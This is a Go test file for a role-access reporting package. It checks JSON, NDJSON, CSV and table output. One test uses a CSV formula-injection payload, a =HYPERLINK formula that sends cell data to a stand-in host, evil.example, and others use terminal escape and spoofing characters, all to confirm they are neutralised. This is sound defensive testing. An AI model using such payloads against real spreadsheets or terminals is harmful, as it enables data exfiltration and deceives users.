package report

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/rolecall/rolecall/facade"
)

var sample = []Row{
	{Provider: "openai", UserID: "user-2", Email: "b@x.com", Name: "B, \"the\" second", RoleID: "owner", RoleName: "owner",
		RoleKind: "builtin", Scope: "api.organization"},
	{Provider: "openai", UserID: "user-1", Email: "a@x.com", RoleID: "role_1", RoleName: "Data & Export", RoleKind: "custom",
		Scope: "api.organization", Permissions: []string{"api.files.read", "api.usage.read"}, Via: "group/g1,group/g2"},
	{Provider: "cortex", UserID: "c@x.com", Email: "c@x.com", Name: "C", RoleID: "ADMIN", RoleName: "ADMIN", RoleKind: "builtin"},
	{Provider: "vectara", UserID: "u", Email: "d@x.com", Username: "d", Disabled: true, RoleID: "owner", RoleName: "owner",
		RoleKind: "builtin", Scope: "corpus/docs", Status: "disabled", Created: "2024-01-02T03:04:05Z",
		Updated: "2024-02-02T03:04:05Z", Privileged: true},
	{Provider: "logto", UserID: "l", Email: "e@x.com", RoleID: "r1", RoleName: "admin", RoleKind: "custom",
		Status: "active", AccountType: "human", Created: "2024-01-02T03:04:05Z", LastActivity: "2026-11-01T00:00:00Z",
		Privileged: true},
}

// sampleRun is a run record of the listing of sample.
func sampleRun() *Run { return runOfRows(sample) }

// runOfRows is a run record of a listing of rows: every provider of
// sample, complete, counting what rows hold of it.
func runOfRows(rows []Row) *Run {
	t0 := time.Date(2026, 12, 2, 5, 0, 0, 0, time.UTC)
	total := int64(2)
	run := &Run{Schema: RunSchema, ID: "0123456789abcdef", Started: t0, Finished: t0.Add(3 * time.Second),
		Version: "devel", Order: "sorted"}
	for _, p := range []string{"cortex", "logto", "openai", "vectara"} {
		pr := ProviderRun{Provider: p, Host: p + ".example", Status: StatusComplete, Requests: 1,
			SpecSHA256: strings.Repeat("ab", 32)}
		users := map[string]bool{}
		for _, r := range rows {
			if r.Provider == p {
				pr.Assignments++
				users[r.UserID] = true
			}
		}
		pr.Users = int64(len(users))
		if p == "cortex" {
			pr.ReportedTotal, pr.ListedUsers = &total, &total
		}
		run.Providers = append(run.Providers, pr)
	}
	return run
}

// digested is run with the digests a Writer records for rows.
func digested(run *Run, rows []Row) *Run {
	for i := range run.Providers {
		var mine []Row
		for _, r := range sorted(rows) {
			if r.Provider == run.Providers[i].Provider {
				mine = append(mine, r)
			}
		}
		run.Providers[i].RowsSHA256 = RowsDigest(mine)
	}
	return run
}

func write(t *testing.T, o Options, rows []Row, run *Run) string {
	t.Helper()
	var b bytes.Buffer
	w := NewWriter(&b, o)
	for _, r := range rows {
		require.NoError(t, w.Write(r))
	}
	require.NoError(t, w.Finish(run))
	return b.String()
}

func sorted(rows []Row) []Row {
	out := append([]Row(nil), rows...)
	Sort(out)
	return out
}

func TestRoundTrip(t *testing.T) {
	for _, f := range []Format{JSON, NDJSON, CSV} {
		out := write(t, Options{Format: f}, sample, sampleRun())
		rep, err := Read(strings.NewReader(out))
		require.NoError(t, err, f)
		assert.Equal(t, f, rep.Format)
		assert.Equal(t, sorted(sample), rep.Rows, "%s is in report order", f)
		if f == JSON {
			assert.Equal(t, digested(sampleRun(), sample), rep.Run, "the envelope carries the run")
		} else {
			assert.Nil(t, rep.Run, "%s keeps its run record in a sidecar", f)
		}
		out = write(t, Options{Format: f, Unsorted: true}, sample, sampleRun())
		rep, err = Read(strings.NewReader(out))
		require.NoError(t, err, f)
		// Unsorted: arrival order within each provider, providers by name.
		assert.Equal(t, []Row{sample[2], sample[4], sample[0], sample[1], sample[3]}, rep.Rows, f)
	}
}

// TestReadEveryForm: the reader takes the envelope in either key order, a
// bare array (reports written before run records), NDJSON with or without a
// first-line run record, and a sidecar next to an NDJSON or CSV file.
func TestReadEveryForm(t *testing.T) {
	runJSON, err := json.Marshal(runOfRows(sample[2:3]))
	require.NoError(t, err)
	row := `{"provider":"cortex","user_id":"c@x.com","email":"c@x.com","name":"C","username":"","disabled":false,"role_id":"ADMIN","role_name":"ADMIN","role_kind":"builtin","scope":"","permissions":[],"via":""}`
	for name, in := range map[string]string{
		"envelope":          `{"run":` + string(runJSON) + `,"assignments":[` + row + `]}`,
		"envelope reversed": `{"assignments":[` + row + `],"run":` + string(runJSON) + `}`,
		"ndjson run line":   `{"run":` + string(runJSON) + "}\n" + row + "\n",
	} {
		rep, err := Read(strings.NewReader(in))
		require.NoError(t, err, name)
		assert.Equal(t, runOfRows(sample[2:3]), rep.Run, name)
		require.Len(t, rep.Rows, 1, name)
	}
	for name, in := range map[string]string{"array": "[\n  " + row + "\n]\n", "ndjson": row + "\n" + row + "\n"} {
		rep, err := Read(strings.NewReader(in))
		require.NoError(t, err, name)
		assert.Nil(t, rep.Run, name)
		assert.NotEmpty(t, rep.Rows, name)
	}
	dir := t.TempDir()
	for _, f := range []Format{NDJSON, CSV} {
		file := filepath.Join(dir, "r."+string(f))
		require.NoError(t, os.WriteFile(file, []byte(write(t, Options{Format: f}, sample, nil)), 0o644))
		rep, err := ReadFile(file)
		require.NoError(t, err)
		assert.Nil(t, rep.Run, "no sidecar")
		var b bytes.Buffer
		require.NoError(t, WriteRun(&b, sampleRun()))
		require.NoError(t, os.WriteFile(SidecarName(file), b.Bytes(), 0o644))
		rep, err = ReadFile(file)
		require.NoError(t, err)
		assert.Equal(t, sampleRun(), rep.Run, "the sidecar is read")
		assert.Len(t, rep.Rows, len(sample))
	}
}

func TestJSONShape(t *testing.T) {
	out := write(t, Options{Format: JSON}, sample[2:3], nil)
	assert.Equal(t, `{
  "assignments": [
    {"provider":"cortex","user_id":"c@x.com","email":"c@x.com","name":"C","username":"","disabled":false,"role_id":"ADMIN","role_name":"ADMIN","role_kind":"builtin","scope":"","permissions":[],"via":"","status":"","account_type":"","created":"","updated":"","last_activity":"","privileged":false,"principal_kind":"","owner_kind":"","owner_id":"","owner_name":"","scope_kind":"","scope_id":"","scope_name":"","held":"","expires":""}
  ]
}
`, out)
	assert.Equal(t, "{\n  \"assignments\": []\n}\n", write(t, Options{Format: JSON}, nil, nil))
	out = write(t, Options{Format: JSON}, nil, runOfRows(nil))
	assert.True(t, strings.HasPrefix(out, "{\n  \"assignments\": [],\n  \"run\": {\n    \"schema\": \"rolecall-run/1\",\n"),
		"the run record follows the rows it holds the digests of: %s", out)
	assert.Contains(t, write(t, Options{Format: NDJSON}, sample[1:2], nil), `"role_name":"Data & Export"`, "no HTML escaping")
	assert.Empty(t, write(t, Options{Format: NDJSON}, nil, nil))
	out = write(t, Options{Format: JSON, Unsorted: true}, sample, sampleRun())
	assert.True(t, json.Valid([]byte(out)))
	assert.Equal(t, 1, strings.Count(out, `"run":`), out)
	// Streamed (a provider written before the run is known): the run comes last.
	var b bytes.Buffer
	w := NewWriter(&b, Options{Format: JSON, Unsorted: true})
	require.NoError(t, w.Write(sample[2]))
	require.NoError(t, w.Complete("cortex"))
	require.NoError(t, w.Write(sample[0]))
	run := runOfRows([]Row{sample[2], sample[0]})
	require.NoError(t, w.Finish(run))
	assert.Equal(t, 1, strings.Count(b.String(), `"run":`))
	rep, err := Read(&b)
	require.NoError(t, err)
	assert.Equal(t, digested(runOfRows([]Row{sample[2], sample[0]}), []Row{sample[2], sample[0]}), rep.Run)
	assert.Len(t, rep.Rows, 2)
}

func TestCSVShape(t *testing.T) {
	out := write(t, Options{Format: CSV}, sample[:2], nil)
	assert.Equal(t, "provider,user_id,email,name,username,disabled,role_id,role_name,role_kind,scope,permissions,via,"+
		"status,account_type,created,updated,last_activity,privileged,"+
		"principal_kind,owner_kind,owner_id,owner_name,scope_kind,scope_id,scope_name,held,expires\n"+
		"openai,user-1,a@x.com,,,false,role_1,Data & Export,custom,api.organization,api.files.read;api.usage.read,\"group/g1,group/g2\",,,,,,false,"+
		",,,,,,,,\n"+
		"openai,user-2,b@x.com,\"B, \"\"the\"\" second\",,false,owner,owner,builtin,api.organization,,,,,,,,false,,,,,,,,,\n", out)
	out = write(t, Options{Format: CSV}, sample[4:5], nil)
	assert.Contains(t, out, "\nlogto,l,e@x.com,,,false,r1,admin,custom,,,,active,human,2024-01-02T03:04:05Z,,2026-11-01T00:00:00Z,true,,,,,,,,,\n")
	out = write(t, Options{Format: CSV}, modelRows[:1], nil)
	assert.Contains(t, out, "\nopenai,key_1,,ci-deploy,,false,role_w,Writer,custom,project/proj_1,,,,,,,,false,"+
		"api_key,service_account,svc_1,deploy-bot,project,proj_1,Deploy,direct,2027-01-01T00:00:00Z\n")
	assert.Equal(t, strings.Join(Fields, ",")+"\n", write(t, Options{Format: CSV}, nil, nil), "an empty report still has its header")
}

// TestCSVInjection: a cell a spreadsheet would run as a formula is written
// with a leading apostrophe (OWASP), read back exactly, and written raw
// with CSVRaw.
func TestCSVInjection(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	rows := []Row{{Provider: "p", UserID: "u1", Name: evil, Email: "+1@x", Username: "-2", RoleID: "@r",
		RoleName: "\tTab", Scope: "\rcr", Via: "'=quoted"}}
	out := write(t, Options{Format: CSV}, rows, nil)
	assert.Contains(t, out, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`)
	for _, cell := range []string{"'+1@x", "'-2", "'@r", "'\tTab", "\"'\rcr\"", "''=quoted"} {
		assert.Contains(t, out, cell)
	}
	rep, err := Read(strings.NewReader(out))
	require.NoError(t, err)
	assert.Equal(t, rows, rep.Rows, "reading undoes the neutralising")
	raw := write(t, Options{Format: CSV, CSVRaw: true}, rows, nil)
	assert.Contains(t, raw, `"=HYPERLINK(`)
}

// TestReadLegacyCSV: a CSV report written before the account columns
// (twelve columns, provider … via) still reads, the account fields empty;
// so do one written before the model's columns (eighteen, provider …
// privileged) and one with every column.
func TestReadLegacyCSV(t *testing.T) {
	legacy := "provider,user_id,email,name,username,disabled,role_id,role_name,role_kind,scope,permissions,via\n" +
		"p,u,,,,true,r,,,,a;b,\n"
	rep, err := Read(strings.NewReader(legacy))
	require.NoError(t, err)
	assert.Equal(t, []Row{{Provider: "p", UserID: "u", Disabled: true, RoleID: "r", Permissions: []string{"a", "b"}}}, rep.Rows)
	_, err = Read(strings.NewReader(legacy + "p,u,,,,true,r,,,,,,active,,,,,true\n"))
	assert.Error(t, err, "every row is as wide as the header")
	account := strings.Join(Fields[:18], ",") + "\np,u,,,,false,r,,,,,,suspended,service,2024-01-02T03:04:05Z,,,true\n"
	rep, err = Read(strings.NewReader(account))
	require.NoError(t, err)
	assert.Equal(t, []Row{{Provider: "p", UserID: "u", RoleID: "r", Status: "suspended", AccountType: "service",
		Created: "2024-01-02T03:04:05Z", Privileged: true}}, rep.Rows)
	full := strings.Join(Fields, ",") + "\np,u,,,,false,r,,,,,,suspended,service,2024-01-02T03:04:05Z,,,true," +
		"api_key,user,u2,Ann,project,p1,P,direct,2027-01-01T00:00:00Z\n"
	rep, err = Read(strings.NewReader(full))
	require.NoError(t, err)
	assert.Equal(t, []Row{{Provider: "p", UserID: "u", RoleID: "r", Status: "suspended", AccountType: "service",
		Created: "2024-01-02T03:04:05Z", Privileged: true, PrincipalKind: "api_key", OwnerKind: "user", OwnerID: "u2",
		OwnerName: "Ann", ScopeKind: "project", ScopeID: "p1", ScopeName: "P", Held: "direct",
		Expires: "2027-01-01T00:00:00Z"}}, rep.Rows)
	_, err = Read(strings.NewReader(strings.Join(Fields[:20], ",") + "\n"))
	assert.Error(t, err, "a header cut elsewhere is not a report's")
}

func TestFormatTime(t *testing.T) {
	assert.Equal(t, "", FormatTime(time.Time{}), "unknown")
	assert.Equal(t, "2026-11-30T01:02:03Z",
		FormatTime(time.Date(2026, 11, 30, 2, 2, 3, 500, time.FixedZone("CET", 3600))), "UTC, to the second")
}

func TestTable(t *testing.T) {
	rows := append(append([]Row(nil), sample...),
		Row{Provider: "logto", UserID: "x", RoleID: "r", Name: "evil\x1b[2Jname\u202egnp.exe", Email: "z\u200bero@x.com"})
	out := write(t, Options{Format: Table}, rows, nil)
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	require.Len(t, lines, 7)
	assert.Equal(t, TableHeader, strings.Fields(lines[0]))
	assert.Equal(t, []string{"PROVIDER", "USER_ID", "EMAIL", "NAME", "USERNAME", "DISABLED", "ROLE_ID", "ROLE_NAME",
		"KIND", "SCOPE", "PERMISSIONS", "VIA", "STATUS", "TYPE", "CREATED", "UPDATED", "LAST_ACTIVITY", "PRIVILEGED",
		"PRINCIPAL", "OWNER_KIND", "OWNER_ID", "OWNER_NAME", "SCOPE_KIND", "SCOPE_ID", "SCOPE_NAME", "HELD", "EXPIRES"},
		TableHeader)
	assert.Regexp(t, `^logto +l +e@x\.com +- +- +no +r1 +admin +custom +- +- +- +active +human +2024-01-02T03:04:05Z +- +2026-11-01T00:00:00Z +yes( +-){9}$`,
		lines[2], "account columns; a privileged role shows yes")
	assert.True(t, strings.HasPrefix(lines[1], "cortex "), "sorted: %q", lines[1])
	assert.NotContains(t, out, "\x1b", "control characters never reach the terminal")
	assert.NotContains(t, out, "\u202e")
	assert.NotContains(t, out, "\u200b")
	assert.Contains(t, out, `evil\x1b[2Jname\u202egnp.exe`, "shown as visible escapes")
	assert.Contains(t, out, `z\u200bero@x.com`)
	for _, l := range lines {
		assert.Equal(t, l, strings.TrimRight(l, " "), "no trailing blanks")
	}
	// Columns line up.
	col := strings.Index(lines[0], "ROLE_ID")
	for _, l := range lines[1:] {
		r := []rune(l)
		assert.NotEqual(t, ' ', r[col], "%q", l)
		assert.Equal(t, ' ', r[col-1], "%q", l)
	}
}

// TestTableColumns: Options.Columns picks the table's columns by header,
// case-insensitively and in the order given; a cell is still escaped and
// cut; an unknown or repeated name fails, naming the columns; no names
// shows every column.
func TestTableColumns(t *testing.T) {
	rows := append(append([]Row(nil), sample...),
		Row{Provider: "logto", UserID: "x", RoleID: "r", RoleName: "evil\x1b[2Jname\u202e" + strings.Repeat("n", 200),
			Email: "z\u200bero@x.com"})
	out := write(t, Options{Format: Table, Columns: []string{"privileged", "Email", "ROLE_NAME"}}, rows, nil)
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	require.Len(t, lines, len(rows)+1)
	assert.Equal(t, []string{"PRIVILEGED", "EMAIL", "ROLE_NAME"}, strings.Fields(lines[0]), "picked and ordered")
	assert.Regexp(t, `^yes +e@x\.com +admin$`, lines[2])
	assert.NotContains(t, out, "\x1b")
	assert.NotContains(t, out, "\u202e")
	assert.Contains(t, out, `z\u200bero@x.com`, "escaped as in the full table")
	assert.Contains(t, out, `evil\x1b[2Jname\u202e`+strings.Repeat("n", DefaultMaxCell-len(`evil\x1b[2Jname\u202e`)-1)+"…",
		"cut at DefaultMaxCell")
	for _, l := range lines {
		assert.Equal(t, l, strings.TrimRight(l, " "), "no trailing blanks")
	}

	assert.Equal(t, write(t, Options{Format: Table}, rows, nil),
		write(t, Options{Format: Table, Columns: TableHeader}, rows, nil), "no names: every column")

	_, err := TableColumns(TableHeader, []string{"email", "nope"})
	require.Error(t, err)
	assert.Contains(t, err.Error(), `unknown column "nope"`)
	assert.Contains(t, err.Error(), strings.Join(TableHeader, ", "), "the error lists the columns")
	_, err = TableColumns(TableHeader, []string{"email", "EMAIL"})
	assert.ErrorContains(t, err, "twice")
	w := NewWriter(&bytes.Buffer{}, Options{Format: Table, Columns: []string{"nope"}})
	assert.ErrorContains(t, w.Write(sample[0]), `unknown column "nope"`)
	assert.ErrorContains(t, w.Finish(nil), `unknown column "nope"`)

	cols, err := TableColumns(TableHeader, DefaultTableColumns)
	require.NoError(t, err, "the default columns exist")
	assert.Len(t, cols, len(DefaultTableColumns))
}

// TestColumnsLeaveTheDataFormatsWhole: JSON, NDJSON and CSV hold every
// column whatever Options.Columns says.
func TestColumnsLeaveTheDataFormatsWhole(t *testing.T) {
	for _, f := range []Format{JSON, NDJSON, CSV} {
		assert.Equal(t, write(t, Options{Format: f}, sample, sampleRun()),
			write(t, Options{Format: f, Columns: DefaultTableColumns}, sample, sampleRun()), f)
		assert.Equal(t, write(t, Options{Format: f}, sample, sampleRun()),
			write(t, Options{Format: f, Columns: []string{"nope"}}, sample, sampleRun()), f)
	}
}

// TestWriteTableColumns: the table of people and review picks its columns
// as the access report's does.
func TestWriteTableColumns(t *testing.T) {
	header := []string{"A", "B", "C"}
	rows := [][]string{{"1", "two", "\x1b" + strings.Repeat("x", 300)}, {"", "b", "c"}}
	var all, picked bytes.Buffer
	require.NoError(t, WriteTable(&all, header, rows, 0))
	require.NoError(t, WriteTableColumns(&picked, header, rows, 0, []string{"c", "a"}))
	assert.Equal(t, "A  B    C\n1  two  \\x1b"+strings.Repeat("x", DefaultMaxCell-5)+"…\n-  b    c\n", all.String())
	assert.Equal(t, "C"+strings.Repeat(" ", DefaultMaxCell-1)+"  A\n\\x1b"+strings.Repeat("x", DefaultMaxCell-5)+
		"…  1\nc"+strings.Repeat(" ", DefaultMaxCell-1)+"  -\n", picked.String())
	var none bytes.Buffer
	err := WriteTableColumns(&none, header, rows, 0, []string{"D"})
	assert.ErrorContains(t, err, `unknown column "D" (the columns are A, B, C)`)
	assert.Empty(t, none.String(), "nothing written")
}

// TestTableCellsAreCut: one 5 MB name does not pad every other row to 5 MB.
func TestTableCellsAreCut(t *testing.T) {
	var rows []Row
	for i := range 1000 {
		rows = append(rows, Row{Provider: "p", UserID: "u" + string(rune('a'+i%26)) + strings.Repeat("x", i%7),
			RoleID: "r" + string(rune('a'+i/26))})
	}
	rows = append(rows, Row{Provider: "p", UserID: "huge", RoleID: "r", Name: strings.Repeat("n", 5<<20)})
	out := write(t, Options{Format: Table}, rows, nil)
	assert.Less(t, len(out), 1001*400, "the table's size does not grow with the longest value")
	assert.Contains(t, out, strings.Repeat("n", DefaultMaxCell-1)+"…", "a cut cell ends with a visible marker")
	full := write(t, Options{Format: JSON}, rows, nil)
	assert.Contains(t, full, strings.Repeat("n", 5<<20), "JSON keeps the whole value")
}

// countingWriter counts the writes reaching it.
type countingWriter struct {
	bytes.Buffer
	writes int
}

func (c *countingWriter) Write(p []byte) (int, error) { c.writes++; return c.Buffer.Write(p) }

// TestTableIsBuffered: the table reaches the writer in large writes, not
// one a cell.
func TestTableIsBuffered(t *testing.T) {
	var rows []Row
	for i := range 5000 {
		rows = append(rows, Row{Provider: "p", UserID: strings.Repeat("u", i%10+1) + string(rune('a'+i%26)),
			Email: "e@x", RoleID: string(rune('a'+i/26%26)) + string(rune('a'+i%26)) + strings.Repeat("r", i/676)})
	}
	for _, f := range Formats {
		var c countingWriter
		w := NewWriter(&c, Options{Format: f})
		for _, r := range rows {
			require.NoError(t, w.Write(r))
		}
		require.NoError(t, w.Finish(nil))
		assert.Less(t, c.writes, c.Len()/(32<<10)+3, "%s: %d writes for %d bytes", f, c.writes, c.Len())
	}
}

// TestOrder: report order whatever the arrival order, with emails compared
// case-insensitively (Ken after donald).
func TestOrder(t *testing.T) {
	rows := []Row{
		{Provider: "cortex", UserID: "Ken.Hopper1@Example.org", Email: "Ken.Hopper1@Example.org", RoleID: "MANAGER"},
		{Provider: "cortex", UserID: "donald@example.org", Email: "donald@example.org", RoleID: "ADMIN"},
		{Provider: "openai", UserID: "user-b", Email: "Alice@x.com", RoleID: "owner"},
		{Provider: "openai", UserID: "user-a", Email: "bob@x.com", RoleID: "owner"},
		{Provider: "openai", UserID: "user-c", RoleID: "reader"}, // no email: by user id
	}
	Sort(rows)
	var got []string
	for _, r := range rows {
		got = append(got, r.UserID)
	}
	assert.Equal(t, []string{"donald@example.org", "Ken.Hopper1@Example.org", "user-b", "user-a", "user-c"}, got)
}

// TestSpill: past the memory limit rows spill to temporary files and merge
// into the same report; the files are removed.
func TestSpill(t *testing.T) {
	var rows []Row
	for i := range 3000 {
		rows = append(rows, Row{Provider: []string{"a", "b", "c"}[i%3], UserID: string(rune('A'+(i*7919)%26)) +
			strings.Repeat("z", (i*31)%13), Email: "", RoleID: string(rune('a' + i%17)), Scope: string(rune('a' + i/51))})
	}
	dir := t.TempDir()
	for _, f := range []Format{JSON, NDJSON, CSV, Table} {
		want := write(t, Options{Format: f}, rows, sampleRun())
		got := write(t, Options{Format: f, MemoryLimit: 20 << 10, TempDir: dir}, rows, sampleRun())
		assert.Equal(t, want, got, f)
		entries, err := os.ReadDir(dir)
		require.NoError(t, err)
		assert.Empty(t, entries, "temporary files removed")
	}
	// Unsorted spills keep the arrival order.
	got := write(t, Options{Format: NDJSON, Unsorted: true, MemoryLimit: 20 << 10, TempDir: dir}, rows, nil)
	assert.Equal(t, write(t, Options{Format: NDJSON, Unsorted: true}, rows, nil), got)
}

// TestDrop: a dropped provider's rows are in no format, however they
// interleaved with the others'.
func TestDrop(t *testing.T) {
	for _, f := range Formats {
		for _, unsorted := range []bool{false, true} {
			var b bytes.Buffer
			w := NewWriter(&b, Options{Format: f, Unsorted: unsorted, MemoryLimit: 1})
			for _, r := range sample {
				require.NoError(t, w.Write(r))
			}
			require.NoError(t, w.Drop("openai"))
			require.NoError(t, w.Write(sample[0]), "later rows of a dropped provider are ignored")
			n, _ := w.Counts("openai")
			assert.Zero(t, n)
			require.NoError(t, w.Finish(nil))
			assert.NotContains(t, b.String(), "openai", "%s unsorted=%t", f, unsorted)
			assert.Contains(t, b.String(), "vectara")
		}
	}
}

// TestCompleteStreams: with Unsorted, a complete provider's rows are
// written at once.
func TestCompleteStreams(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b, Options{Format: NDJSON, Unsorted: true})
	require.NoError(t, w.Write(sample[2]))
	require.NoError(t, w.Write(sample[0]))
	require.NoError(t, w.Complete("cortex"))
	assert.Contains(t, b.String(), "cortex")
	assert.NotContains(t, b.String(), "openai")
	assert.Error(t, w.Drop("cortex"), "written rows cannot be dropped")
	assert.Error(t, w.Write(sample[2]), "no row after Complete")
	require.NoError(t, w.Finish(nil))
	assert.Contains(t, b.String(), "openai")
}

func TestParseFormat(t *testing.T) {
	f, err := ParseFormat("NDJSON")
	require.NoError(t, err)
	assert.Equal(t, NDJSON, f)
	_, err = ParseFormat("xml")
	assert.ErrorContains(t, err, "table, json, ndjson, csv")
	f, err = ParseFormat("HTML")
	require.NoError(t, err)
	assert.Equal(t, HTML, f)
	w := NewWriter(&bytes.Buffer{}, Options{Format: HTML})
	assert.ErrorContains(t, w.Write(Row{Provider: "cortex"}), "the Writer does not write html")
}

func TestReadErrors(t *testing.T) {
	for name, in := range map[string]string{
		"empty":               "  \n",
		"table":               "PROVIDER  USER_ID\n",
		"text":                "hello",
		"bad json":            "[{",
		"trailing":            "[] []",
		"env trailing":        `{"assignments":[]} []`,
		"missing key":         `[{"provider":"p","user_id":"u"}]`,
		"bad ndjson":          "{\"provider\":\"p\"\n",
		"ndjson no key":       `{"provider":"p","role_id":"r"}`,
		"bad run":             `{"run":{"started":"yesterday"},"assignments":[]}`,
		"csv header":          "provider,user\n",
		"csv disabled":        strings.Join(Fields, ",") + "\np,u,,,,maybe,r,,,,,,,,,,,false\n",
		"csv privileged":      strings.Join(Fields, ",") + "\np,u,,,,false,r,,,,,,,,,,,maybe\n",
		"csv legacy disabled": strings.Join(Fields[:12], ",") + "\np,u,,,,maybe,r,,,,,\n",
		"csv no key":          strings.Join(Fields, ",") + "\np,,,,,false,r,,,,,\n",
		"csv width":           strings.Join(Fields, ",") + "\np,u\n",
	} {
		_, err := Read(strings.NewReader(in))
		assert.Error(t, err, name)
	}
	rep, err := Read(strings.NewReader("\xef\xbb\xbf\n" + strings.Join(Fields, ",") + "\n"))
	require.NoError(t, err, "a BOM and no rows")
	assert.Equal(t, CSV, rep.Format)
	assert.Empty(t, rep.Rows)
}

// TestRecordStaysOutOfReports: Assignment.Record, the provider's raw record,
// never reaches a report in any format: FromAssignment copies only the
// mapped fields, which the writers make safe (credentials replaced by the
// drivers, CSV cells neutralised, table cells escaped), so a credential or
// an escape sequence that exists only in the record is written nowhere.
func TestRecordStaysOutOfReports(t *testing.T) {
	secret := "sk-admin-" + strings.Repeat("R3c0rd", 3) // assembled here: never in the repo
	record := &struct {
		Description, Note string
		Extra             map[string]any
	}{Description: secret, Note: "=HYPERLINK(\"http://evil.example\")\x1b]8;;http://evil.example\x07",
		Extra: map[string]any{"token": secret}}
	a := facade.Assignment{Provider: "openai", UserID: "user-1", Email: "a@x.com", RoleID: "owner", RoleName: "owner",
		RoleKind: facade.Builtin, Record: record}
	row := FromAssignment(&a)
	for _, f := range Formats {
		out := write(t, Options{Format: f}, []Row{row}, sampleRun())
		assert.Contains(t, out, "user-1", f)
		for _, leak := range []string{secret, "R3c0rd", "HYPERLINK", "evil.example", "\x1b"} {
			assert.NotContains(t, out, leak, "%s: nothing of the record is written", f)
		}
	}
}
